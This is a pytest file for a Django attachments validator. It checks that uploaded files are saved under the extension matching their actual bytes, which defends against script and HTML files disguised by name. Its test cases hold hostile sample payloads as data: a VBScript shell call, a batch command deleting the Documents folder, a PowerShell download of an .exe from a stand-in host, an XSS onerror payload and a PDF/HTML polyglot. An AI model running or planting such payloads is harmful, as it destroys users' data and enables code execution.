"""Review of issue 14 (attachments): each test here proved a bug found in review."""

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from casedesk.attachments import NAME_LIMIT, check_uploads


def _name(name: str, data: bytes) -> str:
    return check_uploads([SimpleUploadedFile(name, data)])[0].name


@pytest.mark.parametrize(
    ("uploaded", "data", "kept"),
    [
        # a script with no #! is plain text by its bytes; its name ran it on a double-click
        ("pay.vbs", b'CreateObject("WScript.Shell").Run "calc"', "pay.vbs.txt"),
        ("invoice.bat", b"del /q %USERPROFILE%\\Documents\\*", "invoice.bat.txt"),
        ("update.ps1", b"Invoke-WebRequest http://x.example/a.exe", "update.ps1.txt"),
        # HTML a browser opens from the downloads folder: no tag the check looks for
        ("page.htm", b"Hello <img src=x onerror=alert(document.domain)>", "page.htm.txt"),
        # a polyglot: a PDF by its first bytes, a web page by the name it was saved under
        ("report.html", b"%PDF-1.4\n<html><script>alert(1)</script></html>", "report.html.pdf"),
        ("notes", b"just words", "notes.txt"),
    ],
)
def test_a_file_is_saved_under_the_extension_of_what_its_bytes_are(uploaded, data, kept):
    """attachments.py: 'what is accepted is decided by the bytes, never by the name' and
    scripts and HTML are refused; but the name was kept as given, so a text file named
    .vbs, .bat or .htm (or a PDF named .html) was downloaded under that name and ran, or
    opened as a web page, from the downloads folder."""
    assert _name(uploaded, data) == kept


def test_a_matching_extension_is_kept_and_a_long_name_keeps_its_new_one():
    assert _name("Statement.PDF", b"%PDF-1.7\n%%EOF\n") == "Statement.PDF"
    assert _name("notes.log", b"words") == "notes.log"
    assert _name("members.csv", b"a,b\n1,2\n") == "members.csv"
    assert _name("photo.jpeg", b"\xff\xd8\xff\xe0" + b"\x00" * 16) == "photo.jpeg"
    long = _name("a" * 140 + ".exe", b"words")
    assert long.endswith(".exe.txt")
    assert len(long) <= NAME_LIMIT
